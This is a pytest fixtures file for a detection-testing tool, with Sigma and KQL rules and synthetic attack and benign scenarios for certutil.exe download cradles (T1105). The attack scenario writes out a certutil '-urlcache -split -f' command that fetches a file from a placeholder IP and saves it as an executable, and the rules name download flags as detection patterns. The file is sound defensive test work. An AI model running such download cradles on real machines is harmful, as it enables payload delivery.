"""Fixtures for the proof runner: small detections written for the purpose, in temporary catalog folders.

The detections here are deliberately tiny (certutil.exe download cradles, T1105) so each test says exactly which
form should fire and why; ``DISAGREEING_*`` variants are built so Sigma and KQL differ on one operator.
"""

from __future__ import annotations

import textwrap
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from assay.catalog import clear_cache

SIGMA_CERTUTIL = """\
title: Certutil URL Cache Download
id: 0f3b6f0a-6f64-4b5e-9d59-7a3c43f0c1a1
status: test
description: certutil.exe downloading a file through its URL cache (-urlcache), a classic download cradle.
author: Assay tests
date: 2026-11-28
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection_image:
        - Image|endswith: '\\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_download:
        CommandLine|contains: '{needle}'
    condition: all of selection_*
falsepositives:
    - Administrators fetching certificate revocation lists by hand
level: high
"""

KQL_CERTUTIL = """\
DeviceProcessEvents
| where Timestamp > ago(1h)
| where FileName =~ "certutil.exe"
| where ProcessCommandLine has "{needle}"
| project Timestamp, DeviceName, AccountName, ProcessCommandLine, InitiatingProcessFileName
"""

#: A scoring query: every certutil.exe run with flag columns; the alert predicate decides.
KQL_CERTUTIL_SCORING = """\
DeviceProcessEvents
| where Timestamp > ago(1h)
| where FileName =~ "certutil.exe"
| extend Download = ProcessCommandLine has_any ("-urlcache", "-verifyctl")
| extend FromShell = InitiatingProcessFileName in~ ("cmd.exe", "powershell.exe")
| project Timestamp, DeviceName, ProcessCommandLine, Download, FromShell
"""

HOST = {"name": "WKS-ENG-0311", "domain": "corp.contoso.com", "ip": "10.31.8.44"}
USER = {"domain": "CONTOSO", "name": "m.keller", "sid": "S-1-5-21-1004336348-1177238915-682003330-2231",
        "upn": "m.keller@contoso.com"}


def attack_scenario(expected: dict[str, Any] | None = None, scenario_id: str = "own-urlcache-download"
                    ) -> dict[str, Any]:
    return {
        "id": scenario_id,
        "title": "certutil.exe downloads a payload to C:\\Users\\Public from cmd.exe",
        "kind": "attack",
        "provenance": {"own": "the canonical certutil download cradle"},
        "expected": expected or {"sigma": "fires", "kql": "fires"},
        "expected_telemetry": ["Sysmon EID 1 certutil.exe -urlcache -split -f with ParentImage cmd.exe"],
        "activity": {
            "host": HOST, "user": USER, "start": "2026-10-02T14:05:11.120Z",
            "processes": [
                {"id": "cmd", "image": "C:\\Windows\\System32\\cmd.exe",
                 "command_line": '"C:\\Windows\\system32\\cmd.exe" /c certutil.exe -urlcache -split -f '
                                 'http://198.51.100.23/a/update.bin C:\\Users\\Public\\update.exe',
                 "parent_image": "C:\\Windows\\explorer.exe", "parent_command_line": "C:\\Windows\\Explorer.EXE"},
                {"id": "certutil", "image": "C:\\Windows\\System32\\certutil.exe",
                 "command_line": "certutil.exe  -urlcache -split -f http://198.51.100.23/a/update.bin "
                                 "C:\\Users\\Public\\update.exe", "parent": "cmd"},
            ],
            "files": [{"process": "certutil", "path": "C:\\Users\\Public\\update.exe"}],
            "network": [{"process": "certutil", "remote_ip": "198.51.100.23", "remote_port": 80,
                         "remote_url": "http://198.51.100.23/a/update.bin"}],
        },
    }


def benign_scenario(expected: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "id": "fp-hashfile-installer",
        "title": "An engineer checks an installer's SHA-256 with certutil -hashfile",
        "kind": "benign",
        "provenance": {"false_positive": {"index": 1}},
        "expected": expected or {"sigma": "does-not-fire", "kql": "does-not-fire"},
        "activity": {
            "host": HOST, "user": USER, "start": "2026-10-02T15:40:02Z",
            "processes": [
                {"id": "ps", "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "command_line": '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
                 "parent_image": "C:\\Windows\\explorer.exe", "parent_command_line": "C:\\Windows\\Explorer.EXE"},
                {"id": "certutil", "image": "C:\\Windows\\System32\\certutil.exe",
                 "command_line": '"C:\\Windows\\system32\\certutil.exe" -hashfile '
                                 'C:\\Users\\m.keller\\Downloads\\VSCodeUserSetup-x64-1.94.2.exe SHA256',
                 "parent": "ps"},
            ],
        },
    }


def detection_yaml(*, alert: dict[str, str] | None = None, known: list[dict[str, Any]] | None = None,
                   technique: str = "T1105", detection_id: str | None = None,
                   required_tables: list[str] | None = None) -> dict[str, Any]:
    document: dict[str, Any] = {
        "id": detection_id or str(uuid.uuid5(uuid.NAMESPACE_URL, f"assay-test/{technique}")),
        "title": "Certutil download cradle",
        "description": "certutil.exe used to download a file through its URL cache.",
        "technique": technique,
        "severity": "high",
        "confidence": "medium",
        "status": "test",
        "data_sources": ["Process: Process Creation"],
        "required_tables": required_tables or ["DeviceProcessEvents"],
        "explanation": "certutil.exe with -urlcache fetches a URL to disk.",
        "false_positives": ["Engineers hashing downloaded installers with certutil -hashfile"],
        "tuning": "Exclude certificate-management scripts by path.",
        "response": [{"title": "Collect the downloaded file", "action": "Fetch it with live response."}],
        "investigation": "Check what ran the downloaded file.",
        "author": "Assay tests",
        "created": "2026-11-28",
        "modified": "2026-11-28",
    }
    if alert:
        document["alert"] = alert
    if known:
        document["known_differences"] = known
    return document


WriteDetection = Callable[..., Path]


@pytest.fixture(autouse=True)
def _fresh_catalog_cache() -> Iterator[None]:
    clear_cache()
    yield
    clear_cache()


@pytest.fixture
def write_detection(tmp_path: Path) -> WriteDetection:
    """Write a detection folder under tmp_path/catalog/<name>; returns the folder."""

    def write(name: str = "T1105-certutil", *, sigma: str | None = None, kql: str | None = None,
              scenarios: list[dict[str, Any]] | None = None, **detection: Any) -> Path:
        folder = tmp_path / "catalog" / name
        folder.mkdir(parents=True)
        (folder / "detection.yml").write_text(yaml.safe_dump(detection_yaml(**detection), sort_keys=False),
                                              encoding="utf-8")
        if sigma is not None:
            (folder / "rule.sigma.yml").write_text(textwrap.dedent(sigma), encoding="utf-8")
        if kql is not None:
            (folder / "sentinel.kql").write_text(kql, encoding="utf-8")
        (folder / "tests.yml").write_text(
            yaml.safe_dump({"scenarios": scenarios or [attack_scenario(), benign_scenario()]}, sort_keys=False),
            encoding="utf-8")
        return folder

    return write
